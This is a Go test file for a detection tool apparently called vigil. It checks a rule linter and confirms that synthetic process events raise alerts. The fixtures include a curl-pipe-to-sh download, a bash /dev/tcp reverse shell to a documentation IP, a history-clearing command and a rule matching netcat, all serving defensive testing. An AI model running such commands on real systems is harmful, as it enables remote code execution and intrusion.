package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/rules/eventmix"
	"github.com/vigil-sec/vigil/internal/shareddata"
)

func TestRulesLint(t *testing.T) {
	dir := t.TempDir()
	good := "title: ok\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /nc\n  condition: sel\n"
	bad := "title: bad\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /nc\n  condition: sel and nope\n"
	os.WriteFile(filepath.Join(dir, "good.yml"), []byte(good), 0o644)
	os.WriteFile(filepath.Join(dir, "bad.yml"), []byte(bad), 0o644)
	out, _, code := runT(t, "rules", "lint", dir, "--format", "json")
	if code != 1 {
		t.Errorf("exit %d, want 1", code)
	}
	var rep lintReport
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if rep.Rules != 2 || rep.OK != 1 || len(rep.Errors) != 1 || rep.Errors[0].Line != 6 ||
		!strings.HasSuffix(rep.Errors[0].File, "bad.yml") || !strings.Contains(rep.Errors[0].Message, "nope") {
		t.Errorf("report %+v", rep)
	}
	if _, _, code := runT(t, "rules", "lint", filepath.Join(dir, "good.yml")); code != 0 {
		t.Errorf("good rule: exit %d", code)
	}
	if _, _, code := runT(t, "rules", "lint"); code != 2 {
		t.Errorf("no path: exit %d, want 2", code)
	}
}

func TestRulesLintSigmaHQ(t *testing.T) {
	dir := filepath.Join(shareddata.Dir(t, "sigma_linux_rules"), "rules", "linux")
	out, _, code := runT(t, "rules", "lint", dir, "--format", "json")
	var rep lintReport
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if rep.Rules != 210 || rep.OK*100 < rep.Rules*99 {
		t.Errorf("exit %d: %d of %d ok: %v", code, rep.OK, rep.Rules, rep.Errors)
	}
}

func TestRulesTest(t *testing.T) {
	dir := t.TempDir()
	at := time.Date(2025, 3, 14, 9, 0, 0, 0, time.UTC)
	evs := []*event.Event{
		eventmix.Exec(at, "/usr/bin/sh", "sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"),
		eventmix.Exec(at.Add(time.Second), "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
		eventmix.Exec(at.Add(2*time.Second), "/usr/bin/bash", "bash", "-c", "history -c"),
		eventmix.Exec(at.Add(3*time.Second), "/usr/bin/ls", "ls", "-la"),
	}
	var b strings.Builder
	for _, e := range evs {
		j, _ := json.Marshal(e)
		b.Write(j)
		b.WriteByte('\n')
	}
	b.WriteString("not json\n")
	path := filepath.Join(dir, "events.ndjson")
	os.WriteFile(path, []byte(b.String()), 0o644)
	out, errOut, code := runT(t, "rules", "test", "--pack", "--events", path, "--format", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	if !strings.Contains(errOut, "1 event lines could not be decoded") {
		t.Errorf("stderr %q", errOut)
	}
	seen := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var a map[string]any
		if err := json.Unmarshal([]byte(line), &a); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		for _, k := range []string{"id", "rule", "status", "host", "tags", "count", "event_ids", "first_seen", "last_seen"} {
			if _, ok := a[k]; !ok {
				t.Errorf("alert without %s: %s", k, line)
			}
		}
		ids := a["event_ids"].([]any)
		seen[ids[0].(string)] = true
		if len(a["tags"].([]any)) == 0 {
			t.Errorf("alert without ATT&CK tags: %s", line)
		}
	}
	for i, e := range evs[:3] {
		if !seen[e.Event.ID] {
			t.Errorf("event %d (%s) raised no alert", i, e.Process.CommandLine)
		}
	}
	if seen[evs[3].Event.ID] {
		t.Error("ls -la raised an alert")
	}
}
